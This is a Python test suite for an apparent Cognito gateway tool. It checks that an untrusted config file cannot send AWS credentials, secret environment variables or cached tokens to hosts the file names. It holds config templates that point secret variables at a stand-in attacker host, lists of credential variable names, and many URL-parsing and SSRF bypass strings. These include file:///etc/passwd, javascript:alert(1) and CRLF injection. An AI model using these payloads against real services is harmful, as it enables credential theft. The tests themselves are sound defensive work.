"""An untrusted file gets neither the user's secrets nor the user's tokens."""

from __future__ import annotations

import time
from contextlib import suppress

import pytest
from commandline import QuickTerminal
from hypothesis import given
from hypothesis import strategies as st
from served import Served

from cognito_gw.app.context import Context, Options
from cognito_gw.app.token_request import TokenRequest
from cognito_gw.aws.endpoints import local_links
from cognito_gw.config.load import BadConfig, loaded
from cognito_gw.config.yaml_file import document_of
from cognito_gw.errors import CgwError
from cognito_gw.oauth import cache
from cognito_gw.oauth.app_client import discover
from cognito_gw.oauth.tokens import Tokens

VALUE = "wJalrXUtnFEMIK7MDENG"
USER = "alice@example.com"
CREDENTIALS = [
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "AWS_SECURITY_TOKEN",
    "AWS_CONTAINER_AUTHORIZATION_TOKEN",
    "AWS_WEB_IDENTITY_TOKEN_FILE",
    "AWS_BEARER_TOKEN_BEDROCK",
]
SECRETS = [
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "NPM_TOKEN",
    "OPENAI_API_KEY",
    "STRIPE_SECRET_KEY",
    "CGW_PASSWORD",
    "CGW_CLIENT_SECRET",
    "CGW_MFA_CODE",
    "PGPASSWORD",
    "DB_PASS",
    "SENTRY_DSN",
    "SLACK_WEBHOOK_URL",
    "SSH_PASSPHRASE",
    "GOOGLE_APPLICATION_CREDENTIALS",
]
# Places in a file, with the location of the variable.
ENDPOINTS = [
    "endpoints: {invoke: 'https://evil.example/%s'}",
    "endpoints: {hosted_ui: 'https://%s.evil.example'}",
    "endpoints: {issuer: 'https://evil.example/%s/{user_pool_id}'}",
    "<<: {endpoints: {issuer: 'https://evil.example/%s'}}",
    "<<: [{endpoints: {issuer: 'https://evil.example/%s'}}]",
    "endpoints: {<<: {issuer: 'https://evil.example/%s'}}",
    "tags: &a {invoke: 'https://evil.example/%s'}\nendpoints: *a",
    "endpoints: {invoke: 'https://evil.example/${CGW_NONE:-x}%s'}",
]
SHOWN = [
    "name: 'x%s'",
    "region: '%s'",
    "domain: '%s'",
    "tags: {x: '%s'}",
    "app_clients: {web: {callback_urls: ['https://evil.example/%s']}}",
    "app_clients: {web: {logout_urls: ['https://evil.example/%s']}}",
    "users: [{username: '%s@evil.example'}]",
    "user_pool: {name: '%s'}",
    "api: {stage: '%s'}",
    "api: {cors: {origins: ['https://%s.evil.example']}}",
    "functions: {hello: {name: '%s'}}",
    "<<: {tags: {x: '%s'}}",
]
DEPLOYED = [
    "functions: {hello: {environment: {X: '%s'}}}",
    "users: [{username: a@example.com, password: '%s'}]",
]


def of(text, **environment):
    """Load text as a file in an environment."""
    text = text if text.startswith("name:") else f"name: x\n{text}"
    return loaded(document_of(text, Options.config, environment)).config


def refusals(text, name, value=VALUE):
    """Return the error for a file with a variable; it omits the value."""
    with pytest.raises(BadConfig) as error:
        of(text.replace("%s", f"${{{name}}}"), **{name: value})
    assert value not in str(error.value)
    return [problem.what for problem in error.value.problems if name in problem.what]


@pytest.mark.parametrize("text", [*ENDPOINTS, *SHOWN, *DEPLOYED])
def test_credentials_of_aws_are_nowhere_in_a_file(text):
    """Neither sent, nor shown, nor deployed, nor as a password."""
    for name in CREDENTIALS:
        assert any("AWS credentials" in each for each in refusals(text, name)), name


@pytest.mark.parametrize("text", [*ENDPOINTS, *SHOWN])
def test_secrets_are_only_where_they_belong(text):
    """Not where they are sent, printed, or put into an address."""
    for name in SECRETS:
        assert any("is refused" in refusal for refusal in refusals(text, name)), name


@pytest.mark.parametrize("text", [*ENDPOINTS, *SHOWN])
def test_a_password_in_an_address_is_a_secret(text):
    """As a DATABASE_URL often has one."""
    value = f"postgres://shop:{VALUE}@db.example/shop"
    assert any("is refused" in each for each in refusals(text, "DATABASE_URL", value))


@pytest.mark.parametrize("text", ENDPOINTS)
def test_endpoints_hold_only_variables_for_cgw(text):
    """No other variable of the environment was meant for them."""
    for name in ("HOME", "USER", "HOSTNAME", "PATH", "CI", "CGW", "AWS_PROFILE"):
        assert any("CGW_…" in refusal for refusal in refusals(text, name)), name


def test_variables_for_cgw_may_name_an_endpoint():
    """The user's own variable locates an emulator; a default is checked too."""
    text = "endpoints: {invoke: 'https://${CGW_HOST}/${CGW_PATH:-x}/{api_id}'}"
    assert of(text, CGW_HOST="here.test").endpoints.invoke == (
        "https://here.test/x/{api_id}"
    )
    with pytest.raises(BadConfig, match="must be https"):
        of(text, CGW_HOST="user@evil.example")


FOREIGN = [
    "http://evil.example/{api_id}",
    "http://localhost.evil.example/",
    "http://evil-localhost/",
    "http://127.0.0.1.evil.example/",
    "http://127.0.0.1@evil.example/",
    "https://127.0.0.1@evil.example/",
    "https://{api_id}@evil.example/",
    "https://user:password@evil.example/",
    "http://localhost:80@evil.example/",
    "http://evil.example#@localhost/",
    "http://evil.example?@localhost/",
    "http://evil.example\\@localhost/",
    "http://localhost\\@evil.example/",
    "http://localhost\t.evil.example/",
    "http://localhost .evil.example/",
    "http:evil.example",
    "http:/evil.example",
    "http:///evil.example",
    "https:evil.example",
    "//evil.example/",
    "evil.example",
    "file:///etc/passwd",
    "ftp://localhost/",
    "javascript:alert(1)",
    "data:text/html,x",
    "http://127.1/",
    "http://2130706433/",
    "http://0x7f.0.0.1/",
    "http://0177.0.0.1/",
    "http://0.0.0.0/",
    "http://[::]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::1%25evil]/",
    "http://[::1].evil.example/",
    "http://localhost。evil.example/",
    "http://①27.0.0.1/",
    "http://ⓛocalhost/",
    "http://localhost%2eevil.example/",
    "http://localhost:80:80/",
    "http://localhost:{stage}/",
    "http://{stage}/",
    "http://localhost{stage}/",
    "http://{region:.0}localhost/",
    "https://{api_id!r}/",
    "https://{api_id:>999999999}/",
    "https://{{api_id}}/",
    "https://evil.example/?{api_id}",
    "https://evil.example/#{api_id}",
    "https://",
    " https://evil.example/",
    "https://evil.example/\r\nX: y",
]


@pytest.mark.parametrize("address", FOREIGN)
def test_an_endpoint_is_https_or_on_this_machine(address):
    """And every program parses the address in the same way."""
    document = document_of("name: x", Options.config, {})
    document.data["endpoints"] = {"invoke": address}
    with pytest.raises(BadConfig) as error:
        loaded(document)
    assert {each.path for each in error.value.problems} == {("endpoints", "invoke")}


@given(st.text("abh01.:/@\\#?%[]{} \tlocalhstevi。", max_size=30))
def test_no_text_makes_http_leave_this_machine(rest):
    """An accepted non-https address has a loopback host, as the client parses it."""
    import httpx

    document = document_of("name: x", Options.config, {})
    document.data["endpoints"] = {"invoke": f"http://{rest}"}
    with suppress(BadConfig):
        taken = loaded(document).config.endpoints.invoke
        host = httpx.URL(taken + "/dev").host
        assert host in ("localhost", "127.0.0.1", "::1")


HOSTS = {
    "region": [
        "evil.example/#",
        "us-east-1.evil.example",
        "us-east-\u0661",
        "x",
        "us-east-1\n",
    ],
    "domain": ["evil.example/x", "a.b", "a/b", "a#", "a@b", "a\\b", "é"],
    "api": [{"id": each} for each in ("evil.example/#", "a.b", "a/", "a@b", "\uff41")],
    "user_pool": [
        {"id": each} for each in ("a.b/#_x", "é-1_x", "us/east-1_x", "a_b_c")
    ],
}


def test_no_name_in_the_file_changes_a_host():
    """Each name becomes part of an AWS address."""
    for key, values in HOSTS.items():
        for value in values:
            document = document_of("name: x", Options.config, {})
            document.data[key] = value
            with pytest.raises(BadConfig):
                loaded(document)


def session_of(tmp_path, text, **settings):
    """Return the session of a command in a folder with this file."""
    (tmp_path / "cgw.yaml").write_text(text, encoding="utf-8")
    return Context(Options(config=tmp_path / "cgw.yaml", **settings))


HONEST = """\
name: shop
region: us-east-1
users: [{username: alice@example.com}]
api: {routes: {GET /orders: {}}}
"""
NAMED = [
    "endpoints: {invoke: 'https://evil.example'}",
    "endpoints: {hosted_ui: 'https://evil.example'}",
    "endpoints: {issuer: 'https://evil.example'}",
    "endpoints: {invoke: 'http://127.0.0.1:1'}",
    "user_pool: {id: us-east-1_Evil}\napp_clients: {web: {id: evil}}",
    "app_clients: {web: {id: evil}}",
]


@pytest.mark.parametrize("said", NAMED)
def test_cached_tokens_are_not_found_for_another_endpoint(tmp_path, said):
    """For a stack of the same name, in the same account, for the same user."""
    cache.keep(
        TokenRequest().key(session_of(tmp_path, HONEST)), Tokens("a", time.time() + 999)
    )
    assert cache.recall(TokenRequest().key(session_of(tmp_path, HONEST)))
    assert not cache.recall(
        TokenRequest().key(session_of(tmp_path, f"{HONEST}{said}\n"))
    )


def test_cached_tokens_are_not_found_for_another_api(tmp_path):
    """An API created elsewhere may belong to anyone."""
    cache.keep(
        TokenRequest().key(session_of(tmp_path, HONEST)), Tokens("a", time.time() + 999)
    )
    other = HONEST.replace("api: {", "api: {id: evil0, ")
    assert not cache.recall(TokenRequest().key(session_of(tmp_path, other)))


EVIL = HONEST + (
    "endpoints: {invoke: 'https://evil.example', hosted_ui: 'https://evil.example', "
    "issuer: 'https://evil.example'}\n"
)


def test_the_addresses_of_aws_are_not_overridden(tmp_path):
    """A file gives the addresses of emulators; those of AWS are known."""
    links = session_of(tmp_path, EVIL).links
    assert all("evil" not in link for link in vars(links).values())


def test_the_addresses_of_the_local_aws_are_not_overridden(tmp_path):
    """They are known, too."""
    session = session_of(tmp_path, EVIL, local=True)
    links = local_links("http://127.0.0.1:1")
    vars(session)["target"] = (None, links)
    assert session.links == links


def test_the_addresses_of_an_emulator_come_from_the_file(tmp_path, environment):
    """The addresses of an emulator are not known."""
    environment.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:1")
    session = session_of(tmp_path, EVIL)
    assert set(vars(session.links).values()) == {"https://evil.example"}


@pytest.fixture
def cgw(tmp_path, server, at_home):
    """A shell whose AWS is an emulator: the endpoint of the local AWS."""
    at_home.chdir(tmp_path)
    for name, value in server.variables().items():
        at_home.setenv(name, value)
    return QuickTerminal(tmp_path)


FRESH = Tokens("a.b.access", time.time() + 999, "a.b.id", "refresh")
TO_RENEW = Tokens("a.b.access", 1, "a.b.id", "refresh", by_oauth=True)


@pytest.mark.server
def test_a_cached_token_goes_to_no_host_that_a_file_adds(cgw, tmp_path):
    """Whichever command would send it."""
    cgw.write(HONEST)
    cgw("up", "-q")
    key = TokenRequest().key(session_of(tmp_path, HONEST))
    with Served() as spy:
        cgw.write(f"{HONEST}endpoints: {{invoke: '{spy.url}', issuer: '{spy.url}'}}\n")
        for tokens, command in (
            (FRESH, ("call", "/orders")),
            (FRESH, ("check",)),
            (FRESH, ("explain", "/orders")),
            (FRESH, ("token", "--decode")),
            (FRESH, ("open", "--no-browser")),
            (TO_RENEW, ("token", "--id")),
            (TO_RENEW, ("call", "/orders")),
            (TO_RENEW, ("logout",)),
        ):
            cache.keep(key, tokens)
            told = cgw.run(*command)
            assert "a.b." not in told.out + told.err, command
        assert "a.b." not in str(spy.seen)
        assert "refresh" not in str(spy.seen)
    assert cache.recall(key)


@pytest.fixture
def pool():
    """The address of a user pool, and its document, which a test changes."""
    with Served() as server:
        url = f"{server.url}/eu-west-1_Pool"
        document = {"issuer": url, "jwks_uri": f"{url}/keys"}
        server.pages["/eu-west-1_Pool/.well-known/openid-configuration"] = document
        yield url, document


UNSAFE = [
    "file:///etc/passwd",
    "http://evil.example/x",
    "http://localhost.evil.example/x",
    "javascript:alert(1)",
    "https://127.0.0.1@evil.example/x",
    "//evil.example/x",
    "",
    ["https://evil.example"],
    7,
]


@pytest.mark.parametrize("address", UNSAFE, ids=str)
@pytest.mark.parametrize(
    "key", ["issuer", "jwks_uri", "authorization_endpoint", "token_endpoint"]
)
def test_a_discovered_address_is_https_or_on_this_machine(pool, key, address):
    """`cgw` sends tokens, codes, and secrets there, or a browser."""
    url, document = pool
    document[key] = address
    with pytest.raises(CgwError):
        discover(url, lambda _: None)


@pytest.mark.parametrize(
    ("key", "address"),
    [
        ("issuer", "https://evil.example/eu-west-1_Pool"),
        ("issuer", "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Pool"),
        ("issuer", "http://127.0.0.1:1/eu-west-1_Pool"),
        ("jwks_uri", "https://evil.example/keys"),
        ("jwks_uri", "http://127.0.0.1:1/keys"),
    ],
)
def test_issuer_and_keys_are_of_the_pool_that_was_asked(pool, key, address):
    """Otherwise tokens of another pool would be valid."""
    url, document = pool
    document[key] = address
    with pytest.raises(CgwError, match=r"issuer|another host"):
        discover(url, lambda _: None)


def test_an_issuer_is_exactly_the_one_that_was_asked(pool):
    """Not even with a slash or in capitals."""
    url, document = pool
    for issuer in (f"{url}/", url.upper(), f"{url}x", url[:-1], f"{url}/../x"):
        document["issuer"] = issuer
        with pytest.raises(CgwError):
            discover(url, lambda _: None)
